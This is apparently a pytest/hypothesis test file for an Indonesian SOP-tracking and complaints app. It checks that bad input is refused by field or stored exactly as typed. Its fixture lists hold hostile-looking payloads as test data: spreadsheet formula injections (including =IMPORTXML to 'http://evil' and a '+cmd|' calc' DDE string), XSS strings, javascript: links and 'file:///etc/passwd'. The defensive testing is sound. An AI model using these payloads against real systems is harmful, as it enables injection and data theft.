"""Bad input on every write path: each call either refuses with a ValidationError naming the field,
in Indonesian, and changes nothing (every table, the audit log included, has the same checksum
afterwards), or stores the text as typed (surrounding whitespace trimmed) and reads it back equal.

Inputs: right-to-left and other scripts, emoji, zero-width characters, NUL, 100 KB text, empty and
whitespace-only text, impossible dates, numbers as text, formula-like text, HTML, script tags and
Markdown that Streamlit would render. On DuckDB files; Google Sheets, exports, the PDF and the
pages are in ``test_bad_input_sheets.py``."""
from __future__ import annotations

import datetime as dt
import itertools

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from data_access.checksums import store_summary
from data_access.duckdb_store import DuckDBRepository
from data_access.repository import Insert
from data_access.schema import TABLES
from domain import case_model
from domain import accounts as acc
from domain import complaints as cp
from domain import evaluation as ev
from domain import proposals as pr
from domain import tracker as trk
from domain.errors import ValidationError
from tests.contracts import complaints as cc
from tests import tracker_world as tw
from tests.apptest_helpers import ACTORS

SETTINGS = settings(max_examples=20, deadline=None, derandomize=True,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])

# Crafted inputs, each of a kind the forms must survive.
NASTY = [
    "", " ", "\t\n \r", "\u200b", "\u200b\u200c\u200d\ufeff", "a\x00b", "\x00",
    "مرحبا بالعالم", "שלום עולם", "\u202eevil\u202c", "اسم ‏مختلط abc", "SOP 📄✅🇮🇩 Persuratan", "👨‍👩‍👧‍👦",
    "Ñandú çà ß 漢字 ქართული", "x" * 100_000, "y" * 2001, "z" * 201,
    "=IMPORTXML(\"http://evil\",\"//a\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "=HYPERLINK(\"http://evil\",\"klik\")", "12345", "0012", "1e9", "-0", "3,14", "TRUE", "NaN", "None", "null",
    "<script>alert(1)</script>", "<b>tebal</b>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
    ":red[merah]", "**tebal**", "# Judul", "`kode`", "$x^2$", "<!-- c -->", "line1\nline2\r\nline3",
    "2026-02-30", "2026-13-01", "31/12/2026", "0000-00-00", "9999-12-31",
]
TEXT = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=60),
    st.builds(lambda a, b: a + b, st.sampled_from(NASTY[7:]), st.text(max_size=20)),
)
ALL_TABLES = list(TABLES)
AT = tw.MONDAY + dt.timedelta(hours=1)


_N = itertools.count(1)  # unique usernames and receipt numbers across examples


def attempt(repo, call, fields: set[str]):
    """Run ``call``; on a ValidationError check the field, the message and that nothing changed.
    Returns (result, None) or (None, error)."""
    before = store_summary(repo, ALL_TABLES)
    try:
        return call(), None
    except ValidationError as exc:
        assert exc.field in fields, f"refusal names {exc.field!r}, expected one of {fields}"
        message = str(exc)
        assert message.strip() and "Traceback" not in message
        assert store_summary(repo, ALL_TABLES) == before, "a refused input changed the store"
        return None, exc


def plain_rule(text: str, limit: int, *, required: bool) -> bool:
    """Whether a free-text field must accept ``text`` (the documented rule: not empty when required,
    not longer than the limit, no NUL)."""
    s = text.strip()
    if not s:
        return not required
    return len(s) <= limit and "\x00" not in s


def check_plain(text, result, exc, limit, *, required, stored):
    """Accepted exactly when the rule says so; accepted text reads back as typed (trimmed)."""
    assert (exc is None) == plain_rule(text, limit, required=required), (text[:80], exc)
    if exc is None:
        assert stored() == (text.strip() or None)


# ---- tracker ------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def tracker_repo(tmp_path_factory):
    repo = DuckDBRepository(tmp_path_factory.mktemp("bad") / "tracker.duckdb")
    repo.init()
    with tw.populated(repo):  # held open, as one page run holds it
        yield repo
    repo.close()


def fresh_case(repo) -> dict:
    return tw.open_at(repo)


@SETTINGS
@given(title=TEXT, notes=TEXT)
@example(title="x" * 100_000, notes="")
@example(title="SOP\x00", notes="")
@example(title="=IMPORTXML(\"http://evil\",\"//a\")", notes="[x](javascript:alert(1)) :red[merah] <script>")
def test_opening_a_case_with_any_title_and_notes_refuses_cleanly_or_stores_them_as_typed(tracker_repo, title, notes):
    repo = tracker_repo
    new = trk.NewCase(title=title, notes=notes, unit_ids=["UNIT-SETMEN-1"], track="intern", drafts=3,
                      pic_id="EX-STAF1", started_at=tw.MONDAY)
    saved, exc = attempt(repo, lambda: trk.open_case(repo, ACTORS["staf1"], tw.CAL, new, at=tw.MONDAY),
                         {"title", "notes"})
    ok = plain_rule(title, trk.MAX_TITLE, required=True) and plain_rule(notes, trk.MAX_NOTE, required=False)
    assert (exc is None) == ok
    if saved:
        row = repo.get("cases", saved["id"])
        assert row["title"] == title.strip() and row["notes"] == (notes.strip() or None)


@SETTINGS
@given(drafts=st.sampled_from(["3", "tiga", "", " 7 ", "1e3", "-1", "0", "99999", "=1+1", None, 2.5]),
       target=st.sampled_from(["2026-02-30", "2026-13-01", "31/12/2026", "0000-00-00", "9999-12-31", "2026-12-31",
                               " 2027-01-05 ", "12345", "=TODAY()", "", None, dt.date(2025, 1, 1)]))
def test_numbers_as_text_and_impossible_dates_in_a_new_case_are_refused_by_field(tracker_repo, drafts, target):
    repo = tracker_repo
    new = trk.NewCase(title="SOP Uji", unit_ids=["UNIT-SETMEN-1"], track="intern", drafts=drafts,
                      pic_id="EX-STAF1", started_at=tw.MONDAY, target_date=target)
    saved, exc = attempt(repo, lambda: trk.open_case(repo, ACTORS["staf1"], tw.CAL, new, at=tw.MONDAY),
                         {"drafts", "target_date"})
    if saved:
        row = repo.get("cases", saved["id"])
        assert 1 <= row["drafts"] <= trk.MAX_DRAFTS and row["drafts"] == int(drafts)
        if target in (None, ""):
            assert row["target_date"] is None
        else:
            assert row["target_date"] == dt.date.fromisoformat(str(target).strip())
    else:
        bad_target = target in ("2026-02-30", "2026-13-01", "31/12/2026", "0000-00-00", "9999-12-31", "12345",
                                "=TODAY()", dt.date(2025, 1, 1))
        assert exc.field == "target_date" or not bad_target or exc.field == "drafts"


@SETTINGS
@given(title=TEXT, notes=TEXT)
def test_editing_a_case_refuses_cleanly_or_stores_the_text_as_typed(tracker_repo, title, notes):
    repo = tracker_repo
    case = fresh_case(repo)
    changes = {"title": title, "notes": notes}
    saved, exc = attempt(repo, lambda: trk.edit_case(repo, ACTORS["staf1"], case["id"],
                                                     expected_version=case["version"], changes=changes),
                         {"title", "notes"})
    ok = plain_rule(title, trk.MAX_TITLE, required=True) and plain_rule(notes, trk.MAX_NOTE, required=False)
    assert (exc is None) == ok
    if exc is None:
        row = repo.get("cases", case["id"])
        assert row["title"] == title.strip() and row["notes"] == (notes.strip() or None)


@SETTINGS
@given(notes=TEXT, target=st.sampled_from(["2026-02-30", "2026-12-31", "31/12/2026", "abc", "", "=NOW()", "1e9"]))
def test_a_bulk_edit_row_with_bad_text_is_refused_alone_and_changes_nothing(tracker_repo, notes, target):
    repo = tracker_repo
    a, b = fresh_case(repo), fresh_case(repo)
    before_b = repo.get("cases", b["id"])
    rows = [trk.BulkRow(a["id"], a["version"], {"notes": notes, "target_date": target}),
            trk.BulkRow(b["id"], b["version"], {"notes": "catatan biasa"})]
    before = store_summary(repo, ALL_TABLES)
    results = trk.bulk_edit(repo, ACTORS["staf1"], rows)
    assert [r.case_id for r in results] == [a["id"], b["id"]]
    assert results[1].saved and repo.get("cases", b["id"])["notes"] == "catatan biasa"
    assert repo.get("cases", b["id"])["version"] == before_b["version"] + 1
    first = results[0]
    ok_target = target in ("2026-12-31", "")
    ok = plain_rule(notes, trk.MAX_NOTE, required=False) and ok_target
    assert first.saved == ok, (notes[:60], target, first.error)
    row = repo.get("cases", a["id"])
    if first.saved:
        assert row["notes"] == (notes.strip() or None)
    else:
        assert isinstance(first.error, ValidationError) and first.error.field in {"notes", "target_date"}
        assert str(first.error).strip()
        assert row == a  # untouched
        after = store_summary(repo, ALL_TABLES)
        # only case b (and its audit entry) changed
        assert after["step_events"] == before["step_events"] and after["holds"] == before["holds"]


@SETTINGS
@given(note=TEXT, link=TEXT)
def test_finishing_a_step_with_any_note_refuses_cleanly_or_stores_it_as_typed(tracker_repo, note, link):
    repo = tracker_repo
    case = fresh_case(repo)
    v = tw.view(repo, case["id"])
    code = v.current_code()
    saved, exc = attempt(repo, lambda: trk.finish_step(repo, ACTORS["staf1"], tw.CAL, case["id"], code,
                                                       expected_version=v.version, at=AT, note=note, doc_link=link),
                         {"note", "doc_link"})
    if not plain_rule(note, trk.MAX_NOTE, required=False):
        assert exc is not None
    if exc is None:
        ev_row = tw.view(repo, case["id"]).events[code]
        assert ev_row["note"] == (note.strip() or None)
        assert ev_row["doc_link"] == (link.strip() or None)
        stored = ev_row["doc_link"]
        if stored:  # only web links or plain file references are kept, never javascript: and the like
            assert trk.is_url(stored) or not case_model._SCHEME.match(stored) or stored[1:3] in (":\\", ":/")
            assert not stored.lower().startswith(("javascript:", "data:", "file:", "vbscript:"))
    elif exc.field == "note":
        assert not plain_rule(note, trk.MAX_NOTE, required=False)


@SETTINGS
@given(link=st.sampled_from(["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
                             "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "vbscript:x",
                             "http://", "https://exa mple.com", "[x](javascript:alert(1))", "<script>",
                             "\x00", "a\tb", "https://drive.example.go.id/d/1", "ND-12/SOP/2026", "S:\\Arsip\\SOP",
                             "x" * 501]))
def test_a_document_link_is_a_web_link_or_a_file_reference_and_nothing_else(tracker_repo, link):
    repo = tracker_repo
    case = fresh_case(repo)
    v = tw.view(repo, case["id"])
    code = v.current_code()
    saved, exc = attempt(repo, lambda: trk.finish_step(repo, ACTORS["staf1"], tw.CAL, case["id"], code,
                                                       expected_version=v.version, at=AT, doc_link=link),
                         {"doc_link"})
    good = link in ("https://drive.example.go.id/d/1", "ND-12/SOP/2026", "S:\\Arsip\\SOP")
    inert = link == "[x](javascript:alert(1))"  # a file reference made of allowed characters: kept as text
    assert (exc is None) == (good or inert), (link, exc)
    if exc is None:
        stored = tw.view(repo, case["id"]).events[code]["doc_link"]
        assert stored == link.strip()
        assert trk.is_url(stored) == stored.startswith("https://")  # only a real web link is ever a link


@SETTINGS
@given(reason=TEXT, note=TEXT)
def test_recording_a_step_done_earlier_refuses_cleanly_or_stores_reason_and_note(tracker_repo, reason, note):
    repo = tracker_repo
    case = fresh_case(repo)
    v = tw.view(repo, case["id"])
    code = v.current_code()
    saved, exc = attempt(repo, lambda: trk.record_done_earlier(
        repo, ACTORS["staf1"], tw.CAL, case["id"], code, expected_version=v.version, finished_at=AT,
        reason=reason, note=note), {"reason", "note"})
    ok = plain_rule(reason, trk.MAX_REASON, required=True) and plain_rule(note, trk.MAX_NOTE, required=False)
    assert (exc is None) == ok
    if exc is None:
        row = tw.view(repo, case["id"]).events[code]
        assert row["reason"] == reason.strip() and row["note"] == (note.strip() or None)


@SETTINGS
@given(reason=TEXT)
def test_skipping_and_reopening_a_step_refuse_cleanly_or_store_the_reason(tracker_repo, reason):
    repo = tracker_repo
    case = fresh_case(repo)
    v = tw.view(repo, case["id"])
    code = v.current_code()
    _, exc = attempt(repo, lambda: trk.skip_step(repo, ACTORS["staf1"], tw.CAL, case["id"], code,
                                                 expected_version=v.version, reason=reason, at=AT), {"reason"})
    check_plain(reason, None, exc, trk.MAX_REASON, required=True,
                stored=lambda: tw.view(repo, case["id"]).events[code]["reason"])
    if exc is None:
        v = tw.view(repo, case["id"])
        _, exc2 = attempt(repo, lambda: trk.reopen_step(repo, ACTORS["staf1"], tw.CAL, case["id"], code,
                                                        expected_version=v.version, reason=reason + " ulang",
                                                        at=AT), {"reason"})
        check_plain(reason + " ulang", None, exc2, trk.MAX_REASON, required=True,
                    stored=lambda: tw.view(repo, case["id"]).events[code]["reason"])


@SETTINGS
@given(reason=TEXT, contact_name=TEXT, decline=TEXT)
def test_a_proposal_and_its_decline_refuse_cleanly_or_store_the_text(tracker_repo, reason, contact_name, decline):
    repo = tracker_repo
    new = pr.NewProposal(unit_id="UNIT-SETMEN-2", reason=reason, contact_name=contact_name,
                         contact="petugas@setneg.go.id")
    saved, exc = attempt(repo, lambda: pr.submit_proposal(repo, ACTORS["unit1"], new, at=AT),
                         {"reason", "contact_name"})
    ok = plain_rule(reason, trk.MAX_NOTE, required=True) and plain_rule(contact_name, 120, required=True)
    assert (exc is None) == ok
    if exc is not None:
        return
    row = repo.get("proposals", saved["id"])
    assert row["reason"] == reason.strip() and row["contact_name"] == contact_name.strip()
    _, exc = attempt(repo, lambda: pr.decline_proposal(repo, ACTORS["karo"], saved["id"],
                                                       expected_version=saved["version"], reason=decline, at=AT),
                     {"decision_reason"})
    check_plain(decline, None, exc, trk.MAX_REASON, required=True,
                stored=lambda: repo.get("proposals", saved["id"])["decision_reason"])


@SETTINGS
@given(contact=TEXT)
def test_a_proposal_contact_is_an_email_or_phone_number_or_refused(tracker_repo, contact):
    repo = tracker_repo
    new = pr.NewProposal(unit_id="UNIT-SETMEN-2", reason="Perlu SOP baru", contact_name="Ani", contact=contact)
    saved, exc = attempt(repo, lambda: pr.submit_proposal(repo, ACTORS["unit1"], new, at=AT), {"contact"})
    if saved:
        assert repo.get("proposals", saved["id"])["contact"] == contact.strip()
        assert not contact.strip().startswith(("=", "@", "<", "["))


@SETTINGS
@given(text=TEXT, follow_up=TEXT)
def test_evaluation_conclusions_refuse_cleanly_or_read_back_as_typed(tracker_repo, text, follow_up):
    repo = tracker_repo
    version = ev.read_conclusions(repo, 2026).version
    saved, exc = attempt(repo, lambda: ev.save_conclusions(repo, ACTORS["karo"], 2026, text, follow_up, version),
                         {"conclusions", "follow_up"})
    ok = all(len(s.strip()) <= ev.CONCLUSION_MAX_CHARS and "\x00" not in s for s in (text, follow_up))
    assert (exc is None) == ok
    if exc is None:
        back = ev.read_conclusions(repo, 2026)
        assert back.text == text.strip() and back.follow_up == follow_up.strip()


@SETTINGS
@given(year=st.sampled_from(["2030", "dua ribu", "", "1999", "2101", "=2026", None, 2030.7]))
def test_an_evaluation_year_that_is_not_a_year_is_refused_by_field(tracker_repo, year):
    repo = tracker_repo
    version = ev.read_conclusions(repo, 2030).version
    saved, exc = attempt(repo, lambda: ev.save_conclusions(repo, ACTORS["karo"], year, "Baik", "", version),
                         {"year"})
    if year in ("dua ribu", "", "1999", "2101", "=2026", None):
        assert exc is not None and exc.field == "year"
    else:
        assert exc is None and ev.read_conclusions(repo, 2030).text == "Baik"


# ---- accounts -----------------------------------------------------------------------------------

@SETTINGS
@given(name=TEXT)
def test_an_account_display_name_is_refused_by_field_or_stored_as_typed(tracker_repo, name):
    repo = tracker_repo
    form = acc.AccountForm(username=f"uji{next(_N)}", display_name=name, roles=["Pimpinan"])
    saved, exc = attempt(repo, lambda: acc.create_account(repo, ACTORS["admin"], form), {"display_name"})
    if saved:
        stored = repo.get("accounts", saved[0]["id"])["display_name"]
        assert stored == " ".join(name.split())
        assert not any(c in stored for c in "<>[]:*`=+@\x00#")  # names hold letters and name punctuation only
    else:
        assert exc.field == "display_name"


@SETTINGS
@given(username=TEXT)
def test_an_account_username_is_refused_by_field_or_stored_normalised(tracker_repo, username):
    repo = tracker_repo
    form = acc.AccountForm(username=username, display_name="Pengguna Uji", roles=["Pimpinan"])
    saved, exc = attempt(repo, lambda: acc.create_account(repo, ACTORS["admin"], form), {"username"})
    if saved:
        stored = repo.get("accounts", saved[0]["id"])["username"]
        assert stored == acc.normalise_username(username) and acc.USERNAME.match(stored)


# ---- complaints ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def complaint_repo(tmp_path_factory):
    repo = DuckDBRepository(tmp_path_factory.mktemp("bad") / "complaints.duckdb")
    repo.init()
    cc.seed(repo)
    with repo.session():
        yield repo
    repo.close()


@SETTINGS
@given(name=TEXT, subject=TEXT, description=TEXT)
@example(name="Ani", subject="Draf", description="x" * 100_000)
@example(name=" \t ", subject="Draf", description="Uraian")
@example(name="سارة", subject="+cmd|' /C calc'!A0", description="<script>alert(1)</script>")
def test_filing_a_complaint_refuses_cleanly_or_stores_every_text_as_typed(complaint_repo, name, subject,
                                                                          description):
    repo = complaint_repo
    new = cc.new(name=name, subject=subject, description=description)
    saved, exc = attempt(repo, lambda: cp.submit_complaint(repo, cc.NOBODY, cc.CAL, new, at=cc.MON),
                         {"name", "subject", "description"})
    ok = (plain_rule(name, cp.MAX_NAME, required=True) and plain_rule(subject, cp.MAX_SUBJECT, required=True)
          and plain_rule(description, cp.MAX_DESCRIPTION, required=True))
    assert (exc is None) == ok
    if saved:
        row = repo.get("complaints", saved.complaint["id"])
        assert (row["name"], row["subject"], row["description"]) == (name.strip(), subject.strip(),
                                                                   description.strip())


@SETTINGS
@given(email=TEXT, phone=TEXT, nip=TEXT)
def test_complaint_contacts_that_are_not_contacts_are_refused_by_field(complaint_repo, email, phone, nip):
    repo = complaint_repo
    new = cc.new(email=email, phone=phone, nip=nip)
    saved, exc = attempt(repo, lambda: cp.submit_complaint(repo, cc.NOBODY, cc.CAL, new, at=cc.MON),
                         {"email", "phone", "nip", "contact"})
    if saved:
        row = repo.get("complaints", saved.complaint["id"])
        assert row["email"] == (email.strip().lower() or None) and row["phone"] == (phone.strip() or None)
        for value in (row["email"], row["phone"], row["nip"]):
            assert value is None or not value.startswith(("=", "@", "<", "[", "\t", "\r"))


def complaint_in(repo, status: str, handler: str | None = "Kabag") -> dict:
    row = {"id": f"Q-{next(_N)}", "receipt_no": f"ADU-2026-{next(_N):04d}", "kind": "pengaduan", "unit_id": "U1",
           "name": "Ani", "email": "ani@setneg.go.id", "subject": "Draf", "description": "Uraian", "status": status,
           "handler": handler, "due_at": cc.MON + dt.timedelta(days=7)}
    if status == "dijawab":
        row.update(answer="Jawaban lama", answered_at=cc.MON)
    return repo.apply([Insert("complaints", row)], actor="seed", at=cc.MON - dt.timedelta(days=1)).records[0]


MOVE_AT = cc.MON + dt.timedelta(hours=2)


@SETTINGS
@given(text=TEXT)
@example(text="x" * 100_000)
@example(text="\u200b")
@example(text="ok\x00")
def test_every_complaint_move_refuses_bad_text_cleanly_or_stores_it_as_typed(complaint_repo, text):
    repo = complaint_repo
    moves = [
        ("diterima", None, "instruction", lambda r: cp.delegate_complaint(
            repo, cc.KARO, cc.CAL, r["id"], instruction=text, expected_version=r["version"], at=MOVE_AT)),
        ("didelegasikan", "Kabag", "text", lambda r: cp.log_follow_up(repo, cc.KABAG, r["id"], text=text,
                                                                      at=MOVE_AT)),
        ("ditindaklanjuti", "Kabag", "resolution", lambda r: cp.propose_resolution(
            repo, cc.KABAG, r["id"], text=text, expected_version=r["version"], at=MOVE_AT)),
        ("ditindaklanjuti", "Kabag", "answer", lambda r: cp.answer_complaint(
            repo, cc.KABAG, r["id"], answer=text, expected_version=r["version"], at=MOVE_AT)),
        ("dijawab", "Kabag", "reason", lambda r: cp.reopen_complaint(
            repo, cc.KARO, cc.CAL, r["id"], reason=text, expected_version=r["version"], at=MOVE_AT)),
    ]
    for status, handler, field_name, move in moves:
        row = complaint_in(repo, status, handler)
        _, exc = attempt(repo, lambda move=move, row=row: move(row), {field_name})
        assert (exc is None) == plain_rule(text, cp.MAX_TEXT, required=True), (field_name, text[:60], exc)
        if exc is None:
            saved = repo.get("complaints", row["id"])
            column = {"instruction": "instruction", "resolution": "resolution", "answer": "answer",
                      "reason": "reopen_reason"}.get(field_name)
            if column:
                assert saved[column] == text.strip()
            logged = [a["text"] for a in repo.list("complaint_actions", {"complaint_id": row["id"]})]
            assert any(text.strip() in (t or "") for t in logged)
